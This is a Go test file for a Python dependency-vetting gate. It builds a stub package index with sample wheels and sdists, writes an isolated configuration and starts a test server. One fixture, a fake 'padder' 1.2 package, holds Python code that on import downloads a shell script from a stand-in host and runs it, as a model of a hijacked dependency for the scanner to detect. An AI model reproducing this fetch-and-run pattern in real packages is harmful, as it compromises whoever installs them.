package main

import (
	"context"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/rogpeppe/go-internal/testscript"

	"github.com/gatehouse-project/gatehouse/examples"
	"github.com/gatehouse-project/gatehouse/internal/advisory"
	"github.com/gatehouse-project/gatehouse/internal/config"
	"github.com/gatehouse-project/gatehouse/internal/sandbox"
	"github.com/gatehouse-project/gatehouse/internal/scan/external"
	"github.com/gatehouse-project/gatehouse/internal/scan/scantest"
	"github.com/gatehouse-project/gatehouse/test/stub"
)

// TestMain makes the test binary be gatehouse where a script, a hook or the
// sandbox starts it as that.
func TestMain(m *testing.M) {
	sandbox.MaybeTool(external.Tasks())
	testscript.Main(m, map[string]func(){"gatehouse": main})
}

// TestScripts runs testdata/script: the command line as its user sees it, with a
// home folder, a data folder and an index of the script's own.
func TestScripts(t *testing.T) {
	testscript.Run(t, testscript.Params{
		Dir:   filepath.Join("testdata", "script"),
		Setup: func(env *testscript.Env) error { return ownHome(t, env) },
	})
}

// ownHome gives a script a home folder, a data folder and an index of its own.
func ownHome(t *testing.T, env *testscript.Env) error {
	config, err := ownWorld(t, env.WorkDir, exampleIndex(t))
	if err != nil {
		return err
	}
	home := filepath.Join(env.WorkDir, "home")
	for _, v := range append(gitVariables(),
		"HOME="+home, "XDG_CONFIG_HOME="+filepath.Join(home, ".config"), "TMPDIR="+env.WorkDir,
		"GATEHOUSE_CONFIG="+config, "GATEHOUSE_DATA="+filepath.Join(env.WorkDir, "data"),
	) {
		name, value, _ := strings.Cut(v, "=")
		env.Setenv(name, value)
	}
	return os.MkdirAll(home, 0o700)
}

// gitVariables keep the settings of whoever runs the tests away from git.
func gitVariables() []string {
	return []string{
		"GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=" + os.DevNull, "GIT_TERMINAL_PROMPT=0", "LC_ALL=C",
		"GIT_AUTHOR_NAME=A", "GIT_AUTHOR_EMAIL=a@example.invalid", "GIT_COMMITTER_NAME=A", "GIT_COMMITTER_EMAIL=a@example.invalid",
	}
}

// exampleIndex has what examples/python/requirements.txt asks for and a Django
// that nothing in examples/advisories speaks of.
func exampleIndex(t testing.TB) *stub.Index {
	x := stub.New(t)
	for _, number := range []string{"2.2", "2.2.28"} {
		x.Add(scantest.Wheel{Name: "Django", Version: number, License: "BSD-3-Clause", Requires: []string{"pytz", "sqlparse>=0.2.2"}}, stub.About{})
	}
	for _, w := range []scantest.Wheel{
		{Name: "pytz", Version: "2024.1", License: "MIT"}, {Name: "sqlparse", Version: "0.5.0", License: "BSD-3-Clause"},
		{Name: "idna", Version: "3.10", License: "BSD-3-Clause"}, {Name: "packaging", Version: "24.2", License: "Apache-2.0"},
		{Name: "six", Version: "1.16.0", License: "MIT"},
		{Name: "padder", Version: "1.0", License: "MIT", Files: map[string]string{"padder/__init__.py": "def pad(s):\n    return s\n"}},
		{Name: "padder", Version: "1.1", License: "MIT", Files: map[string]string{"padder/__init__.py": "def pad(s, n=1):\n    return s * n\n"}},
		{Name: "padder", Version: "1.2", License: "MIT", Requires: []string{"six"}, Files: map[string]string{"padder/__init__.py": padderFetches}},
	} {
		x.Add(w, stub.About{})
	}
	for _, s := range exampleSdists() {
		x.Add(s, stub.About{NoMetadata: true})
	}
	return x
}

// padderFetches is the shape of a module that was taken over: it fetches code when it
// is imported, and runs it. Its host is nowhere.
const padderFetches = `import subprocess
import urllib.request

code = urllib.request.urlopen("http://files.invalid/pad.sh").read()
open("/tmp/pad.sh", "wb").write(code)
subprocess.Popen(["sh", "/tmp/pad.sh"])


def pad(s, n=1):
    return s * n
`

// exampleSdists have no wheel: what they need is known without running them, or
// not, and their builds need what is harmless, or not.
func exampleSdists() []scantest.Sdist {
	sdist := func(name, project, requires string) scantest.Sdist {
		return scantest.Sdist{
			Name: name, Version: "1.0", PkgInfo: "Metadata-Version: 2.1\nName: " + name + "\nVersion: 1.0\nLicense: MIT\n",
			Files: map[string]string{"pyproject.toml": "[build-system]\nrequires = ['" + requires + "']\nbuild-backend = 'backend'\n" + project},
		}
	}
	table := func(name string) string {
		return "[project]\nname = '" + name + "'\nversion = '1.0'\ndependencies = ['six']\n"
	}
	return []scantest.Sdist{
		sdist("source-only", table("source-only"), "packaging"),
		sdist("badly-built", table("badly-built"), "Django==2.2"),
		sdist("unsaid", "", "packaging"),
		sdist("two-faced", table("other-name"), "packaging"),
		{Name: "unbuildable", Version: "1.0", License: "MIT", Files: map[string]string{"pyproject.toml": "[build-system]\nbuild-backend = 'backend'\n"}},
	}
}

// ownWorld writes a configuration that reaches nothing beyond the test: the
// index, the example advisories, one fixed platform.
func ownWorld(t testing.TB, dir string, x *stub.Index) (config string, err error) {
	t.Helper()
	records, err := examples.Advisories()
	if err != nil {
		return "", err
	}
	advisories := filepath.Join(dir, "advisories")
	if err := os.CopyFS(advisories, records); err != nil {
		return "", err
	}
	config = filepath.Join(dir, "gatehouse.yaml")
	return config, os.WriteFile(config, fmt.Appendf(nil, `
advisories: {sources: [%q]}
upstreams: [{name: pypi, ecosystem: pypi, url: %q}]
matrix: {python: ["3.12.4"], platforms: [x86_64-manylinux_2_28]}
`, advisories, x.URL()), 0o600)
}

// servingGate is a gate that serves until the test ends; inside gives its command
// line.
func servingGate(t *testing.T) *demo {
	t.Helper()
	file, err := ownWorld(t, t.TempDir(), exampleIndex(t))
	if err != nil {
		t.Fatal(err)
	}
	cfg, err := config.Load(file, ecosystemIDs()...)
	if err != nil {
		t.Fatal(err)
	}
	// A socket's path has about 100 bytes; test folders can be longer.
	if cfg.Data, err = os.MkdirTemp("", "gh"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(cfg.Data) })
	ln, err := freeAddress()
	if err != nil {
		t.Fatal(err)
	}
	cfg.Listen = ln.Addr().String()
	d := &demo{streams: streams{in: strings.NewReader(""), out: io.Discard, err: os.Stderr}, cfg: cfg, ln: ln}
	if err := d.inside(os.Stderr).syncAdvisories(t.Context(), nil, advisory.Sync); err != nil {
		t.Fatal(err)
	}
	ctx, stop := context.WithCancel(context.Background())
	ready, ended, err := d.serve(ctx)
	if err != nil {
		t.Fatal(err)
	}
	select {
	case <-ready:
	case err := <-ended:
		t.Fatalf("serve: %v", err)
	}
	t.Cleanup(func() {
		stop()
		if err := <-ended; err != nil {
			t.Errorf("serve: %v", err)
		}
	})
	return d
}

// until looks again and again whether something that another process does has
// happened.
func until(t *testing.T, what string, happened func() bool) {
	t.Helper()
	tick := time.NewTicker(10 * time.Millisecond)
	defer tick.Stop()
	timeout := time.After(time.Minute)
	for !happened() {
		select {
		case <-tick.C:
		case <-timeout:
			t.Fatalf("after a minute there is no %s", what)
		}
	}
}
